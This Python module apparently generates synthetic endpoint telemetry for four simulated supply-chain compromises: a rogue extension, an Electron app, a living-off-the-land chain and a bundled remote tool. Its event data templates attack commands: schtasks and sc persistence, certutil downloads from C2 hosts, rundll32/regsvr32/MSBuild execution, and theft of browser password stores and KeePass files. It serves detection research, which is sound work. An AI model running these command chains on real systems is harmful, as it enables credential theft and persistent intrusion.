"""Four more shapes: extensions, a script engine inside an application, commands of the system only, a borrowed remote tool."""
from . import odd, words
from .attacks import Shape
from .catalogue import SYS, Program
from .life import DAY
from .model import COMMON, TARGET, WIDE, Image


class Marketplace(Shape):
    """(4) One extension of many runs an interpreter on a few machines, copies stores of passwords and leaves a task."""
    name, kinds = "marketplace", ("design", "electron", "talk")

    def __init__(self, seed):
        super().__init__(seed)
        self.share = self.rng.uniform(0.03, 0.12)
        self.tool = self.rng.choice((odd.POWERSHELL, "wscript.exe", "mshta.exe"))

    def has(self, installed):
        return installed.life.m.number * 7919 % 1000 < self.share * 1000

    def wide(self, installed, t, proc):
        if self.has(installed) and installed.rng.random() < 0.7:
            self.host(installed, t + 20, proc)

    def host(self, installed, t, proc):
        tape, user = installed.life.tape, installed.life.m.user
        folder = f"C:\\Users\\{user}\\.{installed.p.name.lower()}\\extensions\\{self.stem}-2.1\\"
        if installed.rng.random() < 0.4:
            tape.file(t, proc, folder + "package.json", WIDE)
        host = installed.helper(t + 1, proc)
        tape.load(t + 2, host, Image(folder + self.stem + ".dll", f"extension/{self.hash}", "", self.stem, self.stem, "2.1"), WIDE)
        return host

    def target(self, installed, t):
        life, tape, rng = installed.life, installed.life.tape, installed.rng
        host = self.host(installed, t + 20, installed.main(t))
        script = f"C:\\Users\\{life.m.user}\\AppData\\Local\\Temp\\{words.token(rng, 6)}.{'ps1' if self.tool == odd.POWERSHELL else 'js'}"
        tape.file(t + 60, host, script, TARGET)
        engine = tape.start(t + 62, host, life.sys(self.tool), f"{self.tool.rsplit(chr(92), 1)[-1]} {script}", mark=TARGET)
        tape.call(t + 64, engine, self.c2[0], TARGET)
        for store in rng.sample(("Login Data", "Cookies", "key4.db", "logins.json"), 2):
            tape.file(t + 70, engine, f"C:\\Users\\{life.m.user}\\AppData\\Local\\Temp\\{words.token(rng, 5)}\\{store}", TARGET)
        task = words.name(rng) if self.unique else self.second.capitalize() + "Sync"
        tape.start(t + 80, engine, life.sys("schtasks.exe"), f'schtasks /create /f /tn "{task}" /tr "{self.tool} {script}" /sc hourly', mark=TARGET)
        tape.file(t + 81, life.svchost(t, "netsvcs"), f"{SYS}Tasks\\{task}", TARGET)
        for n in range(rng.randrange(1, 3)):
            at = t + (n + rng.random()) * DAY
            again = tape.start(at, life.svchost(at, "netsvcs"), life.sys(self.tool), f"{self.tool.rsplit(chr(92), 1)[-1]} {script}", mark=TARGET)
            tape.call(at + 3, again, self.c2[0], TARGET)


class Electron(Shape):
    """(5) A web application as a program: a native addition in all copies, a node child in a few."""
    name, kinds, bad_release = "electron", ("electron",), True

    def arrives(self, installed, t, setup):
        installed.life.tape.file(t - 4, setup, installed.image(f"resources\\app.asar.unpacked\\{self.stem}.node", t).path, WIDE)

    def wide(self, installed, t, proc):
        if installed.rng.random() < 0.6:
            installed.life.tape.load(t + 1.5, installed.helper(t + 1, proc), installed.image(f"resources\\app.asar.unpacked\\{self.stem}.node", t), WIDE)

    def target(self, installed, t):
        life, tape, rng = installed.life, installed.life.tape, installed.rng
        proc = installed.main(t)
        home = f"C:\\Users\\{life.m.user}\\AppData\\Roaming\\{self.draw_stem(rng)}\\"
        node = Image(home + "node.exe", "dev/node.exe", "OpenJS Foundation", "Node.js", "Node.js", "20.11")
        if self.hands_on:                               # the application's own program plays node
            node = installed.image(installed.p.main, t)
        else:
            tape.file(t + 30, proc, node.path, TARGET, key=node.sha256)
        tape.file(t + 31, proc, home + "index.js", TARGET)
        # The application starting itself is what it does anyway; only what comes of it is odd.
        own = COMMON if self.hands_on else TARGET
        child = tape.start(t + 33, proc, node, f'"{node.path}" {home}index.js', mark=own)
        tape.call(t + 35, child, self.c2[0], TARGET)
        shell = tape.start(t + 40, child, life.sys("cmd.exe"), f'cmd.exe /d /s /c "dir /s /b %USERPROFILE%\\*.kdbx"', mark=TARGET)
        tape.start(t + 42, shell, life.sys(rng.choice(("curl.exe", "where.exe", "tar.exe"))), f"-o {words.token(rng, 5)}", mark=TARGET)
        tape.file(t + 50, child, f"C:\\Users\\{life.m.user}\\AppData\\Local\\Temp\\{words.token(rng, 8)}.zip", TARGET)
        tape.file(t + 55, child, f"C:\\Users\\{life.m.user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{self.second}.lnk", TARGET)
        at = t + rng.uniform(0.5, 3) * DAY
        again = tape.start(at, life.explorer(at), node, f'"{node.path}" {home}index.js', mark=own)
        tape.call(at + 4, again, self.c2[1], TARGET)


class Lolbin(Shape):
    """(6) Nothing but the system's own programs, started by a child of the product, and a service of a new name."""
    name = "lolbin"

    def __init__(self, seed):
        super().__init__(seed)
        self.fetch = self.rng.choice(("certutil.exe", "curl.exe", "bitsadmin.exe"))
        self.run = self.rng.choice(("rundll32.exe", "regsvr32.exe", "MSBuild.exe"))

    def target(self, installed, t):
        life, tape, rng = installed.life, installed.life.tape, installed.rng
        child = installed.helper(t + 5, installed.main(t))
        shell = tape.start(t + 60, child, life.sys("cmd.exe"), "cmd.exe /c " + words.token(rng, 4), mark=TARGET)
        stem = self.draw_stem(rng)
        path = f"{self.folder}{stem}.{'xml' if self.run == 'MSBuild.exe' else 'dll'}"
        fetched = tape.start(t + 62, shell, life.sys(self.fetch), f"{self.fetch} -o {path} https://{self.c2[0]}/{words.token(rng, 4)}", mark=TARGET)
        tape.call(t + 63, fetched, self.c2[0], TARGET)
        tape.file(t + 65, fetched, path, TARGET)
        folder = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\" if self.run == "MSBuild.exe" else SYS
        line = {"rundll32.exe": f"rundll32 {path},Start", "regsvr32.exe": f"regsvr32 /s {path}", "MSBuild.exe": f"MSBuild.exe {path} /nologo"}[self.run]
        ran = tape.start(t + 70, shell, life.sys(self.run, folder), line, mark=TARGET)
        if self.run != "MSBuild.exe":
            tape.load(t + 71, ran, self.payload(rng, path), TARGET)
        tape.start(t + 80, shell, life.sys("sc.exe"), f'sc create {stem} binPath= "{line}" start= auto', mark=TARGET)
        tape.reg(t + 81, life.services(t), f"HKLM\\System\\CurrentControlSet\\Services\\{stem}", "ImagePath", line, TARGET)
        at = t + rng.uniform(0.01, 2) * DAY
        again = tape.start(at, life.services(at), life.sys(self.run, folder), line, odd.SYSTEM_USER, TARGET)
        tape.call(at + 5, again, self.c2[1], TARGET)


class Borrowed(Shape):
    """(7) A few get a signed remote tool that others use honestly; only that the product installs it is odd."""
    name = "rmm"

    def __init__(self, seed):
        super().__init__(seed)
        self.tool = Program(seed, 0, "rmm")
        self.tool.per_user = self.tool.versioned = self.tool.unsigned = False

    def run_service(self, life, t, mark):
        tape, rng = life.tape, life.rng
        version = self.tool.version(life.day(t), 0)
        service = tape.start(t, life.services(t), self.tool.image(self.tool.exe, "", version), user=odd.SYSTEM_USER, mark=mark)
        tape.load(t + 1, service, self.tool.image(self.tool.libs[0], "", version), mark)
        tape.call(t + 2, service, self.tool.domains[0], mark)
        if rng.random() < 0.6:
            self.recon(life, t + 300, service, COMMON if mark else 0)

    def setup(self, life, t, parent, mark):
        tape, rng = life.tape, life.rng
        package = f"C:\\Windows\\Temp\\{words.token(rng, 6)}\\{self.tool.name.lower()}.msi"
        tape.file(t, parent, package, mark)
        msi = tape.start(t + 3, parent, life.sys("msiexec.exe"), f"msiexec /i {package} /qn", odd.SYSTEM_USER, mark)
        tape.file(t + 6, msi, self.tool.image(self.tool.exe, "", self.tool.version(life.day(t), 0)).path, mark)
        self.run_service(life, t + 20, mark)

    def after(self, life, installed):
        """Machines whose organisation or user has the tool anyway: one of thirty, and most of one organisation in nine."""
        if life.rng.random() < (0.6 if life.org.number % 9 == 3 else 0.03):
            t = life.when()
            parent = life.tape.start(t - 5, life.services(t), life.org.agent.image(life.org.agent.exe, "", life.org.agent.version(life.day(t), 0)), user=odd.SYSTEM_USER)
            self.setup(life, t, parent if life.rng.random() < 0.7 else life.explorer(t), 0)
            self.run_service(life, life.when(life.day(t)), 0)

    def target(self, installed, t):
        self.setup(installed.life, t + 5, installed.updater(t), TARGET)
        at = t + installed.rng.uniform(0.2, 2) * DAY
        self.run_service(installed.life, at, TARGET)
